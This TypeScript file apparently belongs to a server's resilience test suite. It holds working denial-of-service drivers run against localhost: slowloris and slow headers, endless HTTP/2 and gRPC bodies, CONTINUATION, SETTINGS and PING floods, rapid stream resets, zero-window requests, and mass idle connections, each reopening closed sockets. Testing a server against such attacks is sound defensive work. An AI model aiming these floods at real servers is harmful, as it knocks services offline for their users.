/** Attacks on a server's memory, each as a driver: it begins, goes on until it is ended, and leaves nothing behind here. */
import { Buffer } from "node:buffer";
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import {
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  headersFrame,
  http2Preface,
  literal,
  parseFrames,
  PING,
  RST_STREAM,
  SETTINGS,
} from "../transport/support/raw-http2.js";

/** A connection that an attack holds, and opens again when the server has closed it. */
type Fill = (socket: Socket) => void;

export interface MemoryAttack {
  readonly name: string;
  readonly connections: number;
  /** Writes on a new connection. May be called again for a connection that takes the place of a closed one. */
  readonly fill: Fill;
}

export interface RunningAttack extends AsyncDisposable {
  /** Connections that the server has taken so far, those that came back included. */
  readonly opened: () => number;
}

/** Begins an attack; a connection that the server closes is opened again. */
export async function begin({ connections, fill }: MemoryAttack, port: number): Promise<RunningAttack> {
  const sockets = new Set<Socket>();
  let opened = 0;
  let over = false;
  const open = (): void => {
    if (over) return;
    const socket = connect({ port, host: "127.0.0.1", noDelay: true });
    sockets.add(socket);
    socket.on("error", () => {});
    socket.once("connect", () => {
      opened += 1;
      fill(socket);
    });
    socket.once("close", () => {
      sockets.delete(socket);
      setTimeout(open, 50);
    });
  };
  for (let at = 0; at < connections; at++) open();
  await Promise.all(Array.from(sockets, (socket) => once(socket, "connect").catch(() => {})));
  return {
    opened: () => opened,
    async [Symbol.asyncDispose]() {
      over = true;
      await Promise.all(
        Array.from(sockets, async (socket) => {
          socket.destroy();
          await once(socket, "close");
        }),
      );
    },
  };
}

const FRAME = 16 * 1024;
const STREAMS = 250;
/** Just below what is refused as too large. */
const BODY = 255 * 1024;

function request(method: string, path: string, type?: string): [string, string][] {
  const fields: [string, string][] = [
    [":method", method],
    [":path", path],
    [":scheme", "http"],
    [":authority", "x"],
  ];
  return type === undefined ? fields : [...fields, ["content-type", type]];
}

const WINDOW_UPDATE = 8;
const REFUSED = 7;

/** What a peer says of windows, by stream; 0 is the connection. */
function uint32(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(4 * values.length);
  values.forEach((value, at) => bytes.writeUInt32BE(value, 4 * at));
  return bytes;
}

/** What settings say of the window that a stream begins with. */
function initialWindow(settings: Buffer): number | undefined {
  for (let at = 0; at + 6 <= settings.length; at += 6) {
    if (settings.readUInt16BE(at) === 4) return settings.readUInt32BE(at + 2);
  }
  return undefined;
}

/** Bodies that never end, on as many streams as the server takes, sent as fast as its windows let them. */
function endlessBodies(path: string, type: string, start: Buffer): Fill {
  return (socket) => {
    const windows = new Map<number, number>();
    const left = new Map<number, number>();
    let connectionWindow = 65_535;
    let initial = 65_535;
    let unread = Buffer.alloc(0);
    let next = 1;
    const filler = Buffer.alloc(FRAME, "a");
    const open = (): void => {
      socket.write(headersFrame(next, request("POST", path, type), END_HEADERS));
      socket.write(frame(DATA, 0, next, start));
      connectionWindow -= start.length;
      windows.set(next, initial - start.length);
      left.set(next, BODY - start.length);
      next += 2;
    };
    const pump = (): void => {
      for (const [stream, bytes] of left) {
        const size = Math.min(FRAME, bytes, windows.get(stream) ?? 0, connectionWindow);
        if (size <= 0 || socket.writableLength > 1024 * 1024) continue;
        socket.write(frame(DATA, 0, stream, filler.subarray(0, size)));
        left.set(stream, bytes - size);
        windows.set(stream, (windows.get(stream) ?? 0) - size);
        connectionWindow -= size;
      }
    };
    socket.on("drain", pump);
    socket.on("data", (chunk) => {
      unread = Buffer.concat([unread, chunk]);
      for (const { type: kind, stream, payload, flags } of parseFrames(unread)) {
        unread = unread.subarray(9 + payload.length);
        if (kind === WINDOW_UPDATE && stream === 0) connectionWindow += payload.readUInt32BE(0);
        else if (kind === WINDOW_UPDATE) windows.set(stream, (windows.get(stream) ?? 0) + payload.readUInt32BE(0));
        else if (kind === RST_STREAM && left.delete(stream) && payload.readUInt32BE(0) !== REFUSED) open();
        else if (kind === SETTINGS && (flags & 1) === 0) socket.write(frame(SETTINGS, 1, 0, Buffer.alloc(0)));
        if (kind === SETTINGS) initial = initialWindow(payload) ?? initial;
      }
      pump();
    });
    socket.write(http2Preface);
    for (let at = 0; at < STREAMS; at++) open();
    pump();
  };
}

/** Sends the same bytes again and again, as fast as the connection takes them, until it closes. */
function flood(first: Buffer, repeated: (round: number) => Buffer): Fill {
  return (socket) => {
    socket.resume();
    socket.write(first);
    let round = 0;
    const go = (): void => {
      while (!socket.destroyed && socket.write(repeated(round++)));
    };
    socket.on("drain", go);
    go();
  };
}

/** Requests whose answers have no window to go through, on all streams; connection by connection. */
const closedWindows: Fill = (socket) => {
  socket.resume();
  const noWindow = Buffer.concat([Buffer.from([0, 4]), uint32(0)]);
  const streams = Array.from({ length: STREAMS }, (_, at) => 2 * at + 1);
  socket.write(
    Buffer.concat([
      http2Preface.subarray(0, 24),
      frame(SETTINGS, 0, 0, noWindow),
      ...streams.map((stream) => headersFrame(stream, request("GET", "/.well-known/jwks.json"))),
    ]),
  );
};

/** HTTP/1.1 bodies that come byte by byte after a large beginning. */
const slowloris: Fill = (socket) => {
  socket.resume();
  socket.write(
    `POST /v1/oauth/tokens HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${BODY}\r\n\r\n`,
  );
  socket.write(Buffer.alloc(BODY - 4096, "a"));
  const timer = setInterval(() => socket.write("a"), 500);
  socket.once("close", () => clearInterval(timer));
};

const slowHeaders: Fill = (socket) => {
  socket.resume();
  socket.write(`GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ${"a".repeat(16_000)}`);
  const timer = setInterval(() => socket.write("a"), 500);
  socket.once("close", () => clearInterval(timer));
};

const largeHeader = frame(
  HEADERS,
  0,
  1,
  Buffer.concat(request("GET", "/").map(([name, value]) => literal(name, value))),
);
const FIELD = literal("x-flood", "a".repeat(100));
const manyFields = frame(CONTINUATION, 0, 1, Buffer.concat(Array.from({ length: 100 }, () => FIELD)));

const GRPC_WEB = "application/grpc-web+proto";
/** The head of a message of which the rest never comes. */
const HALF_A_MESSAGE = Buffer.concat([Buffer.from([0]), uint32(BODY - 5)]);
const GET_TOKEN = "/icemint.v1.TokenService/GetToken";
const FORM = "application/x-www-form-urlencoded";
const OPEN_WATCH = [Buffer.alloc(5)];

export const MEMORY_ATTACKS: readonly MemoryAttack[] = [
  {
    name: "form bodies that never end, over HTTP/2",
    connections: 8,
    fill: endlessBodies("/v1/oauth/tokens", FORM, Buffer.from("a=")),
  },
  {
    name: "gRPC-Web messages that never end",
    connections: 8,
    fill: endlessBodies(GET_TOKEN, GRPC_WEB, HALF_A_MESSAGE),
  },
  {
    name: "gRPC messages that never end",
    connections: 8,
    fill: endlessBodies(GET_TOKEN, "application/grpc", HALF_A_MESSAGE),
  },
  { name: "bodies that come byte by byte, over HTTP/1.1", connections: 400, fill: slowloris },
  { name: "headers that come byte by byte, over HTTP/1.1", connections: 1000, fill: slowHeaders },
  { name: "connections that say nothing", connections: 2000, fill: (socket) => void socket.resume() },
  { name: "answers that have no window to go through", connections: 16, fill: closedWindows },
  {
    name: "header fields without an end",
    connections: 8,
    fill: flood(Buffer.concat([http2Preface, largeHeader]), () => manyFields),
  },
  {
    name: "a flood of settings",
    connections: 4,
    fill: flood(http2Preface, () => frame(SETTINGS, 0, 0, Buffer.alloc(0))),
  },
  { name: "a flood of pings", connections: 4, fill: flood(http2Preface, () => frame(PING, 0, 0, Buffer.alloc(8))) },
  {
    name: "a flood of streams that are reset at once",
    connections: 4,
    fill: flood(http2Preface, (round) => {
      const stream = 2 * round + 1;
      const fields = headersFrame(stream, request("POST", "/v1/oauth/tokens", FORM), END_HEADERS);
      return Buffer.concat([fields, frame(RST_STREAM, 0, stream, uint32(8))]);
    }),
  },
  {
    name: "health watches without an end",
    connections: 16,
    fill: (socket) => {
      socket.resume();
      const watch = request("POST", "/grpc.health.v1.Health/Watch", "application/grpc");
      const streams = Array.from({ length: STREAMS }, (_, at) => 2 * at + 1);
      const frames = streams.flatMap((stream) => [
        headersFrame(stream, watch, END_HEADERS),
        ...OPEN_WATCH.map((message) => frame(DATA, END_STREAM, stream, message)),
      ]);
      socket.write(Buffer.concat([http2Preface, ...frames]));
    },
  },
];
